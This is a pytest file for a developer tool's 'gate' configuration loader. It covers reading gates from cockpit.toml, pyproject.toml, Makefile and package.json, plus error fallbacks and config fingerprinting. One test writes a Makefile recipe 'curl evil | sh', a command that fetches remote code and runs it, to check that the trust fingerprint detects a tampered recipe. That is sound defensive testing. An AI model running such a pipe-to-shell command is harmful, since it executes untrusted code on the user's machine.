"""The gates a repository declares or suggests, read from its files, with the fingerprint `cockpit trust` records."""

from __future__ import annotations

import os
from pathlib import Path

from cockpit.config.gates import load_gate_config, repo_facts
from cockpit.core.gate_rules import GateKind


def test_cockpit_toml_gates_are_used(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text('[gates.tests]\ncommand = "make check"\nrequired = true\n')
    (tmp_path / "pyproject.toml").write_text("[tool.cockpit.gates.other]\ncommand = 'x'\n")
    config = load_gate_config(tmp_path)
    assert config.source == "cockpit.toml" and config.errors == ()
    assert [(g.name, g.command, g.required) for g in config.gates] == [("tests", "make check", True)]


def test_a_cockpit_toml_syntax_error_names_the_line_and_gates_fall_back_to_detection(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text('[gates.tests]\ncommand = "pytest"\nrequired = yes please\n')
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\n")
    config = load_gate_config(tmp_path)
    assert len(config.errors) == 1
    assert config.errors[0].startswith("cockpit.toml:") and "line 3" in config.errors[0]
    assert config.source == "detected" and config.detected
    assert [g.name for g in config.gates] == ["tests", "pre-mortem", "vibe"]


def test_cockpit_toml_without_gates_defers_to_pyproject_tool_cockpit(tmp_path: Path) -> None:
    (tmp_path / "cockpit.toml").write_text("[ui]\ntheme = 'dark'\n")
    (tmp_path / "pyproject.toml").write_text(
        "[tool.cockpit.gate_settings]\ndebounce = 1.5\n"
        "[tool.cockpit.gates.x]\ncommand = 'make x'\ncwd = 'sub'\n[tool.cockpit.gates.x2]\ncommand = ''\n")
    config = load_gate_config(tmp_path)
    assert config.source == "pyproject.toml [tool.cockpit]" and config.debounce == 1.5
    assert [(g.name, g.command, g.cwd) for g in config.gates] == [("x", "make x", "sub")]
    assert config.errors == ("pyproject.toml [tool.cockpit]: gates.x2.command must be a non-empty string",)


def test_a_pyproject_with_pytest_options_and_no_config_detects_a_tests_gate(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'p'\n[tool.pytest.ini_options]\naddopts = '-q'\n")
    config = load_gate_config(tmp_path)
    assert config.detected and config.errors == ()
    tests = config.get("tests")
    assert tests is not None and tests.command == "python3 -m pytest -q -x" and tests.required


def test_a_repo_venv_python_is_used_by_detected_gates(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\n[tool.ruff]\n")
    (tmp_path / ".venv" / "bin").mkdir(parents=True)
    (tmp_path / ".venv" / "bin" / "python").write_text("")
    config = load_gate_config(tmp_path)
    assert [g.command for g in config.gates if g.kind is GateKind.COMMAND] == [
        ".venv/bin/python -m pytest -q -x", ".venv/bin/python -m ruff check ."]


def test_a_broken_pyproject_is_reported_and_detection_still_runs(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest\n")
    (tmp_path / "go.mod").write_text("module x\n")
    config = load_gate_config(tmp_path)
    assert len(config.errors) == 1 and config.errors[0].startswith("pyproject.toml:")
    assert [g.name for g in config.gates] == ["go-test", "pre-mortem", "vibe"]


def test_a_makefile_test_target_and_package_json_are_read_from_the_repo(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(".PHONY: test\nall: build\ntest: build\n\tpytest\n")
    assert [g.name for g in load_gate_config(tmp_path).gates] == ["make-test", "pre-mortem", "vibe"]
    (tmp_path / "package.json").write_text('{"scripts": {"test": "jest"}}')
    assert [g.name for g in load_gate_config(tmp_path).gates] == ["npm-test", "pre-mortem", "vibe"]



def test_makefile_variable_assignments_are_not_targets(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("VAR := x\nOTHER ?= y\ntest: build\n\tpytest\n")
    assert repo_facts(tmp_path).makefile_targets == frozenset({"test"})



def test_the_fingerprint_of_cockpit_toml_is_the_sha256_of_its_bytes(tmp_path: Path) -> None:
    import hashlib

    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"\n')
    config = load_gate_config(tmp_path)
    assert config.fingerprint == hashlib.sha256(b'[gates.t]\ncommand = "true"\n').hexdigest()
    (tmp_path / "cockpit.toml").write_bytes(b'[gates.t]\ncommand = "true"  \n')  # same gates, other bytes
    assert load_gate_config(tmp_path).fingerprint != config.fingerprint


def test_a_makefile_recipe_change_changes_the_detected_fingerprint(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("test:\n\tpytest\n")
    before = load_gate_config(tmp_path)
    assert [g.name for g in before.gates][0] == "make-test" and "Makefile (the file's bytes)" in before.inputs
    (tmp_path / "Makefile").write_text("test:\n\tcurl evil | sh\n")
    assert load_gate_config(tmp_path).fingerprint != before.fingerprint


def test_a_fifo_named_cockpit_toml_is_reported_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "cockpit.toml")
    config = load_gate_config(tmp_path)  # would hang for ever on a blocking open
    assert config.detected and "cockpit.toml: not a readable regular file" in config.errors[0]

